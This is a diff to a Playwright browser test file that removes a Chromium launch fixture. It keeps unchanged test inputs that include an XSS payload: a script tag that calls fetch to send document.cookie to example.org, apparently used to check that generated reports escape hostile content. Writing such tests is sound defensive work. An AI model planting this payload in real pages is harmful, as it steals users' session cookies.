@@ -2,10 +2,9 @@
 
 from collections.abc import Callable, Iterator
 from pathlib import Path
-from shutil import which
 
 import pytest
-from playwright.sync_api import Browser, Page, sync_playwright
+from playwright.sync_api import Browser, Page
 
 from proctor import cli
 
@@ -14,7 +13,6 @@ from . import classroom
 pytestmark = pytest.mark.browser
 ROOT = Path(__file__).parents[2]
 AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
-CHROMIUM = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
 TAKEOVER = "document.title='taken over';fetch('http://example.org/'+document.cookie)"
 HOSTILE = (
     f"<script>{TAKEOVER}</script>",
@@ -51,14 +49,6 @@ def folder(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
     assert cli.main(command) == 0
     yield course / "report" / "ps1"
     os.chdir(before)
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=which("chromium"), args=CHROMIUM)
-        yield browser
-        browser.close()
 
 
 @pytest.fixture
